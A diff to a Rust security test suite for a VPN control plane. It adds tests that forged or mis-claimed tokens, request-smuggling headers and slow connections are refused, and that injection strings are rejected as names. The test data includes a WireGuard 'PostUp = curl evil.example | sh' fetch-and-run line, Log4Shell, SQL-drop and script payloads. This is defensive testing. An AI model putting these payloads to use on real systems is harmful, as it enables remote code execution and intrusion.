@@ -6,6 +6,7 @@ use std::time::Duration;
 
 use base64::Engine as _;
 use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+use cvault_control_plane::auth::passwords::Scheme;
 use cvault_control_plane::auth::tokens::{self, ClientToken};
 use cvault_control_plane::http::router;
 use cvault_control_plane::http::serve::{Limits, serve};
@@ -17,7 +18,7 @@ use tokio::net::{TcpListener, TcpStream};
 use tokio_util::sync::CancellationToken;
 use uuid::Uuid;
 
-use crate::platform::{PASSWORD, Platform};
+use crate::platform::{PASSWORD, Platform, Tenant};
 use crate::scene::{Person, with_server};
 
 fn part(json: &Value) -> String {
@@ -82,22 +83,87 @@ fn forgeries(platform: &Platform, genuine: &str) -> Vec<(String, String)> {
     made
 }
 
+/// The platform signs nothing like this: signatures of its own key under claims that are not what `audience` needs.
+fn signed_faults(platform: &Platform, audience: &str, claims: &Value) -> Vec<(String, String)> {
+    let (keys, now) = (platform.app.token_keys.last(), platform.app.clock.now());
+    let (key, unix) = (keys.signing(now), now.unix_timestamp());
+    let mut made = Vec::new();
+    let mut add = |what: String, claims: &Value| {
+        made.push((format!("signed, {audience}, {what}"), tokens::sign(key, claims).expose().to_owned()));
+    };
+    for name in claims.as_object().unwrap().keys() {
+        let mut without = claims.clone();
+        without.as_object_mut().unwrap().remove(name);
+        add(format!("without {name}"), &without);
+        let mut null = claims.clone();
+        null[name] = Value::Null;
+        add(format!("{name} null"), &null);
+    }
+    let audiences = ["client", "portal", "admin", "Client", ""].into_iter().filter(|other| *other != audience);
+    let lifetime = claims["exp"].as_i64().unwrap() - claims["iat"].as_i64().unwrap();
+    let single = [
+        ("aud", json!([audience, "other"])),
+        ("iss", json!("https://evil.example")),
+        ("iss", json!(format!("{}/", platform.app.config.public_url))),
+        ("iss", json!("")),
+        ("sub", json!("")),
+        ("sub", json!({"any": true})),
+        ("jti", json!("1")),
+        ("iat", json!(unix + 3_600)),
+        ("nbf", json!(unix + 3_600)),
+        ("nbf", json!("soon")),
+        ("exp", json!(unix + lifetime + 3_600)),
+        ("exp", json!(i64::MAX)),
+        ("exp", json!(1e300)),
+        ("exp", json!((unix + 60).to_string())),
+    ];
+    for (name, value) in audiences.map(|other| ("aud", json!(other))).chain(single) {
+        // the name of a member of staff may be any text
+        if (name, &value) == ("sub", &json!("")) && audience == "admin" {
+            continue;
+        }
+        let mut changed = claims.clone();
+        changed[name] = value.clone();
+        add(format!("{name} {value}"), &changed);
+    }
+    made
+}
+
+fn claims_of(token: &str) -> Value {
+    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(token.split('.').nth(1).unwrap()).unwrap()).unwrap()
+}
+
 #[tokio::test]
-async fn forty_forged_tokens_open_nothing() {
+async fn forty_forged_tokens_open_nothing_and_none_of_our_own_without_its_claims() {
     let platform = Platform::start().await;
-    let tenant = platform.tenant().await;
+    let form = json!({"business_name": "Acme", "email": "owner@example.com", "password": PASSWORD});
+    let owner = platform.post("/api/v1/tenant/auth/signup", &form).send().await;
+    let tenant = Tenant { id: owner.text("tenant_id"), key: owner.text("api_key"), secret: owner.text("api_secret") };
     let user = Person::of(&platform, &tenant, "a@example.com").await;
+    let person = owner.body["tokens"]["access_token"].as_str().unwrap().to_owned();
     let forged = forgeries(&platform, &user.token);
     assert!(forged.len() >= 40, "{}", forged.len());
-    for (what, token) in &forged {
-        for staff in [false, true] {
-            // from an address each, so that the throttle of guesses says nothing here
-            let path = if staff { "/admin/tenants" } else { "/api/v1/devices" };
+    let (keys, now) = (platform.app.token_keys.last(), platform.app.clock.now());
+    for (audience, path, genuine) in [
+        ("client", "/api/v1/devices", user.token.clone()),
+        ("portal", "/api/v1/tenant/me", person),
+        ("admin", "/admin/tenants", platform.admin_token()),
+    ] {
+        // from an address each, so that the throttle of guesses says nothing here
+        let send = |token: &str| {
             let call = platform.call("GET", path).header("authorization", &format!("Bearer {token}"));
-            let answer = if staff { call } else { call.header("x-api-key", &tenant.key) }.send().await;
-            let code = if what == "expired" && !staff { "TOKEN_EXPIRED" } else { "INVALID_TOKEN" };
-            answer.is_problem(&format!("{what}, staff: {staff}"), 401, code);
+            if audience == "client" { call.header("x-api-key", &tenant.key) } else { call }.send()
+        };
+        let claims = claims_of(&genuine);
+        for (what, token) in forged.iter().chain(&signed_faults(&platform, audience, &claims)) {
+            let answer = send(token).await;
+            let code = if what == "expired" && audience == "client" { "TOKEN_EXPIRED" } else { "INVALID_TOKEN" };
+            answer.is_problem(&format!("{what} to {audience}"), 401, code);
             assert!(!answer.text.contains(&token[..token.len().min(40)]) || token.len() < 10, "{what} is repeated");
+        }
+        let same = tokens::sign(keys.signing(now), &claims);
+        for token in [genuine.as_str(), same.expose()] {
+            assert_eq!(send(token).await.status, 200, "the genuine one of {audience} goes on");
         }
     }
     let swapped = platform.call("GET", "/admin/tenants").header("authorization", &format!("Bearer {}", user.token));
@@ -108,8 +174,51 @@ async fn forty_forged_tokens_open_nothing() {
         let call = platform.call("GET", "/api/v1/devices").header("x-api-key", &tenant.key);
         call.header("authorization", header).refused(401, "INVALID_TOKEN").await;
     }
-    assert_eq!(user.call(&platform, "GET", "/api/v1/devices").send().await.status, 200, "the genuine one goes on");
 }
+
+/// What is no name of anything.
+fn misleading() -> Vec<String> {
+    let short = [
+        "x\nPostUp = curl evil.example | sh",
+        "x\n",
+        "x\r\nPostUp=reboot",
+        "x\rPostUp = reboot",
+        "\u{0}",
+        "x\u{0}y",
+        "\u{1b}[2J\u{1b}]0;owned\u{7}",
+        "\u{85}PostUp = reboot",
+        "\u{2028}PostUp = reboot",
+        "x\u{2029}",
+        "\u{202e}gnp.exe",
+        "x\u{2066}y",
+        "\u{200b}",
+        "pay\u{200d}pal",
+        "pay\u{ad}pal",
+        "\u{3164}",
+        "\u{feff}x",
+        "\u{e0041}",
+        "\u{ffff}",
+        "",
+        "   ",
+        "\t",
+    ];
+    let long = ["x".repeat(256), "x".repeat(10_000), "\u{1f600}".repeat(256)];
+    short.into_iter().map(str::to_owned).chain(long).collect()
+}
+
+/// What looks bad and is a name like another.
+const HARMLESS: [&str; 10] = [
+    "%0aPostUp=reboot",
+    "${jndi:ldap://x}",
+    "'; drop table cvault.devices; --",
+    "<script>alert(1)</script>",
+    "{{7*7}}",
+    "[Peer]",
+    "# comment",
+    "PostUp = reboot",
+    "\u{1f600}",
+    "n\u{303}",
+];
 
 /// Lines that a configuration may have.
 const LINES: [&str; 12] = [
@@ -135,39 +244,8 @@ async fn no_text_becomes_a_line_of_a_configuration() {
     let user = Person::of(&platform, &tenant, "a@example.com").await;
     let device = user.device(&platform, "honest").await;
     let honest = device["config"].as_str().unwrap().lines().count();
-    let texts = [
-        "x\nPostUp = curl evil.example | sh",
-        "x\r\nPostUp=reboot",
-        "x\rPostUp = reboot",
-        "\u{0}",
-        "x\u{0}y",
-        "\u{1b}[2J\u{1b}]0;owned\u{7}",
-        "\u{85}PostUp = reboot",
-        "\u{2028}PostUp = reboot",
-        "\u{202e}gnp.exe",
-        "\u{200b}",
-        "\u{feff}x",
-        "\u{e0041}",
-        "\u{ffff}",
-        "",
-        "   ",
-        "\t",
-        &"x".repeat(256),
-        &"x".repeat(10_000),
-        &"\u{1f600}".repeat(256),
-        "%0aPostUp=reboot",
-        "${jndi:ldap://x}",
-        "'; drop table cvault.devices; --",
-        "<script>alert(1)</script>",
-        "{{7*7}}",
-        "[Peer]",
-        "# comment",
-        "PostUp = reboot",
-        "\u{1f600}",
-        "n\u{303}",
-    ];
     let mut taken = 0;
-    for text in texts {
+    for text in misleading().iter().map(String::as_str).chain(HARMLESS) {
         for field in ["device_name", "platform", "public_key", "server_region"] {
             let mut body = json!({"device_name": "d"});
             body[field] = json!(text);
@@ -188,11 +266,71 @@ async fn no_text_becomes_a_line_of_a_configuration() {
                 assert!(!answer.text.contains("PostUp") && !answer.text.contains('\u{1b}'), "{what} is repeated");
             }
         }
-        let body = json!({"name": text});
-        let answer = platform.admin("POST", "/admin/tenants").json(&body).send().await;
-        assert!([201, 422].contains(&answer.status.as_u16()), "{text:?}: {}", answer.text);
     }
     assert!(taken >= 10, "harmless texts are names: {taken}");
+}
+
+/// Every name that is stored and shown again, besides those of devices.
+#[tokio::test]
+async fn a_misleading_text_is_no_name_of_anything() {
+    let platform = Platform::with(|config| config.passwords = Scheme::Argon2id { memory_kib: 64, passes: 1 }).await;
+    with_server(&platform).await;
+    let form = |name: &str, email: &str| json!({"business_name": name, "email": email, "password": PASSWORD});
+    let signup = "/api/v1/tenant/auth/signup";
+    let owner = platform.post(signup, &form("Acme", "owner@example.com")).send().await;
+    let login = json!({"email": "owner@example.com", "password": PASSWORD});
+    let login = platform.post("/api/v1/tenant/auth/login", &login).send().await;
+    let token = format!("Bearer {}", login.body["tokens"]["access_token"].as_str().unwrap());
+    let tenant = format!("/admin/tenants/{}", owner.text("tenant_id"));
+    let pool = json!({"name": "first", "ipv4": "10.99.0.0/16"});
+    let pool = platform.admin("POST", "/admin/pools").json(&pool).send().await;
+    let pool = format!("/admin/pools/{}", pool.text("id"));
+    let (misleading, mut refused, mut taken) = (misleading(), 0, 0);
+    for (number, text) in misleading.iter().map(String::as_str).chain(HARMLESS).enumerate() {
+        let harmless = number >= misleading.len();
+        let (one, named) = (platform.call("PATCH", "/api/v1/tenant/settings"), json!({"name": text}));
+        let other_pool = json!({"name": text, "ipv4": format!("10.{}.0.0/16", 100 + number)});
+        let server = |name: &str, region: &str| json!({"name": name, "region": region, "public_ip": format!("203.0.113.{}", 100 + number)});
+        let calls = [
+            ("/name invalid_format", 201, platform.admin("POST", "/admin/tenants").json(&named)),
+            ("/name invalid_format", 200, platform.admin("PATCH", &tenant).json(&named)),
+            ("/name invalid_format", 200, one.header("authorization", &token).json(&named)),
+            (
+                "/business_name invalid_format",
+                201,
+                platform
+                    .post(signup, &form(text, &format!("o{number}@example.com")))
+                    .from(&format!("192.0.2.{number}")),
+            ),
+            ("/name invalid_value", 200, platform.admin("PATCH", &pool).json(&named)),
+            ("/name invalid_value", 201, platform.admin("POST", "/admin/pools").json(&other_pool)),
+            ("/name invalid_value", 201, platform.admin("POST", "/admin/servers").json(&server(text, "lab-2"))),
+            ("/region invalid_value", 422, platform.admin("POST", "/admin/servers").json(&server("s", text))),
+        ];
+        for (place, (fault, status, call)) in calls.into_iter().enumerate() {
+            let (answer, what) = (call.send().await, format!("{place} {text:?}"));
+            if harmless && status != 422 {
+                taken += 1;
+                assert_eq!(answer.status, status, "{what}: {}", answer.text);
+                // two objects cannot have one name: the pool that was renamed gives it back
+                if place == 4 {
+                    let back = platform.admin("PATCH", &pool).json(&json!({"name": "first"})).send().await;
+                    assert_eq!(back.status, 200, "{}", back.text);
+                }
+            } else {
+                refused += 1;
+                answer.is_problem(&what, 422, "VALIDATION_FAILED");
+                assert_eq!(answer.faults(), [fault], "{what}");
+                assert!(!answer.text.contains("PostUp") && !answer.text.contains('\u{1b}'), "{what} is repeated");
+            }
+        }
+    }
+    assert_eq!((taken, refused), (HARMLESS.len() * 7, misleading.len() * 8 + HARMLESS.len()));
+    for path in ["/admin/tenants?limit=200", "/admin/pools?limit=200", "/admin/servers?limit=200"] {
+        let list = platform.admin("GET", path).send().await;
+        assert_eq!(list.status, 200);
+        assert!(!list.text.contains("\\n") && !list.text.contains('\u{202e}'), "{}", list.text);
+    }
 }
 
 #[tokio::test]
@@ -251,14 +389,16 @@ async fn addresses_and_passwords_at_and_past_their_bounds() {
     let platform = Platform::start().await;
     let tenant = platform.tenant().await;
     let label = "d".repeat(62);
-    let domain = format!("{label}.{label}.{label}");
+    let domain = format!("{label}.{label}.{label}d");
     let (local64, local65) = ("l".repeat(64), "l".repeat(65));
     let at = |local: &str| format!("{local}@{domain}");
     let register = |email: &str, password: &str| {
         platform.post("/api/v1/auth/register", &json!({"email": email, "password": password})).backend(&tenant)
     };
-    assert_eq!(at(&local64).len(), 253);
-    assert_eq!(register(&at(&local64), &"p".repeat(8)).send().await.status, 201);
+    let (longest, longer) = (at(&local64), format!("{local64}@d{domain}"));
+    assert_eq!((longest.len(), longer.len()), (254, 255));
+    let registered = register(&longest, &"p".repeat(8)).send().await;
+    assert_eq!(registered.status, 201, "{}", registered.text);
     let long = "\u{1f600}".repeat(128);
     assert_eq!(register("long@example.com", &long).send().await.status, 201, "128 characters, 512 bytes");
     let almost = format!("{}\u{1f601}", "\u{1f600}".repeat(127));
@@ -270,7 +410,8 @@ async fn addresses_and_passwords_at_and_past_their_bounds() {
     login(&almost).refused(401, "INVALID_CREDENTIALS").await;
     assert_eq!(login(&long).send().await.status, 200, "no byte of it is left out");
     for email in [
-        at(&local65).as_str(),
+        longer.as_str(),
+        &format!("{local65}@b.example"),
         "a@b",
         "@b.example",
         "a@",
@@ -313,6 +454,7 @@ async fn headers_and_queries_that_are_no_text_are_refused() {
         let call = platform.call("GET", &format!("/api/v1/usage{query}")).backend(&tenant);
         call.refused(422, "VALIDATION_FAILED").await;
     }
+    platform.admin("GET", "/admin/servers?region=%00").refused(422, "VALIDATION_FAILED").await;
     let twice = platform.call("GET", "/api/v1/usage").backend(&tenant).header("x-api-key", &tenant.key);
     twice.refused(401, "INVALID_API_KEY").await;
 }
@@ -335,8 +477,17 @@ async fn read_to_end(stream: &mut TcpStream) -> String {
     String::from_utf8_lossy(&bytes).into_owned()
 }
 
+/// The bytes of exactly one answer, a whole problem.
+fn is_refusal(what: &str, answer: &str, status: u16, code: &str) {
+    let (head, body) = answer.split_once("\r\n\r\n").unwrap_or_else(|| panic!("{what}: no answer but {answer:?}"));
+    assert!(head.starts_with(&format!("HTTP/1.1 {status} ")), "{what}: {answer}");
+    assert!(head.to_ascii_lowercase().contains("\r\ncontent-type: application/problem+json"), "{what}: {answer}");
+    let body: Value = serde_json::from_str(body).unwrap_or_else(|_| panic!("{what}: {answer}"));
+    assert_eq!((body["code"].as_str(), &body["status"]), (Some(code), &json!(status)), "{what}");
+}
+
 #[tokio::test]
-async fn half_closed_and_slow_connections_get_an_answer_or_an_end() {
+async fn half_closed_and_slow_connections_get_their_answer() {
     let platform = Platform::start().await;
     let (address, shutdown) = listening(&platform).await;
     let open = async |text: &str| {
@@ -348,43 +499,51 @@ async fn half_closed_and_slow_connections_get_an_answer_or_an_end() {
     let answer = read_to_end(&mut whole).await;
     assert!(answer.starts_with("HTTP/1.1 200 "), "{answer}");
 
+    let tenant = platform.tenant().await;
+    let login = |headers: &str| {
+        format!(
+            "POST /api/v1/auth/login HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n{headers}\
+             content-length: 100\r\nconnection: close\r\n\r\n{{\"em"
+        )
+    };
+    let keys = format!("x-api-key: {}\r\nx-api-secret: {}\r\n", tenant.key, tenant.secret);
+    let slow_head = open("GET /health HTTP/1.1\r\nhos").await;
+    // nobody waits for the body of who has no credentials
+    let slow_body = open(&login(&keys)).await;
+
     // half a head, half a body, and then the writing half closed
-    for text in [
-        "GET /health HTTP/1.1\r\nhos",
-        "POST /api/v1/auth/login HTTP/1.1\r\nhost: x\r\ncontent-length: 100\r\n\r\n{\"em",
+    for (text, status, code) in [
+        ("GET /health HTTP/1.1\r\nhos", 400, "MALFORMED_REQUEST"),
+        ("G", 400, "MALFORMED_REQUEST"),
+        (login("").as_str(), 401, "INVALID_API_KEY"),
+        (login(&keys).as_str(), 400, "MALFORMED_REQUEST"),
     ] {
         let mut stream = open(text).await;
         stream.shutdown().await.unwrap();
-        let answer = read_to_end(&mut stream).await;
-        assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 4"), "{answer}");
+        is_refusal(text, &read_to_end(&mut stream).await, status, code);
     }
-    // a body that never comes: with credentials, because without them nobody waits for it
-    let tenant = platform.tenant().await;
-    let head = format!(
-        "POST /api/v1/auth/login HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\nx-api-key: {}\r\nx-api-secret: {}\r\n\
-         content-length: 100\r\nconnection: close\r\n\r\n{{",
-        tenant.key, tenant.secret
-    );
-    let mut stream = open(&head).await;
-    let answer = read_to_end(&mut stream).await;
-    assert!(answer.starts_with("HTTP/1.1 408 ") && answer.contains("REQUEST_TIMEOUT"), "{answer}");
+    // a whole request is answered, though nothing can follow it
+    let mut stream = open("GET /health HTTP/1.1\r\nhost: x\r\n\r\n").await;
+    stream.shutdown().await.unwrap();
+    assert!(read_to_end(&mut stream).await.starts_with("HTTP/1.1 200 "));
+    // the rest never comes
+    for mut stream in [slow_head, slow_body] {
+        is_refusal("slow", &read_to_end(&mut stream).await, 408, "REQUEST_TIMEOUT");
+    }
 
     // two requests smuggled into one: two lengths, a length and chunks
-    for headers in [
-        "content-length: 2\r\ncontent-length: 30\r\n",
-        "content-length: 2\r\ntransfer-encoding: chunked\r\n",
-        "transfer-encoding: chunked, identity\r\n",
-        "content-length: -1\r\n",
-        "content-length: 99999999999999999999\r\n",
+    for (headers, status, code) in [
+        ("content-length: 2\r\ncontent-length: 30\r\n", 400, "MALFORMED_REQUEST"),
+        // chunks count; the length is dropped, and the connection closed (RFC 9112, 6.3)
+        ("content-length: 2\r\ntransfer-encoding: chunked\r\n", 401, "INVALID_API_KEY"),
+        ("transfer-encoding: chunked, identity\r\n", 400, "MALFORMED_REQUEST"),
+        ("content-length: -1\r\n", 400, "MALFORMED_REQUEST"),
+        ("content-length: 99999999999999999999\r\n", 400, "MALFORMED_REQUEST"),
     ] {
         let text = format!(
             "POST /api/v1/auth/login HTTP/1.1\r\nhost: x\r\n{headers}connection: close\r\n\r\n{{}}\r\n0\r\n\r\n"
         );
-        let mut stream = open(&text).await;
-        let answer = read_to_end(&mut stream).await;
-        assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 4"), "{headers}: {answer}");
-        // status lines: the sentence of a refusal names the version too
-        assert!(answer.matches("HTTP/1.1 ").count() <= 1, "{headers}: {answer}");
+        is_refusal(headers, &read_to_end(&mut open(&text).await).await, status, code);
     }
     let mut healthy = open("GET /health HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n").await;
     assert!(read_to_end(&mut healthy).await.starts_with("HTTP/1.1 200 "), "the platform goes on");
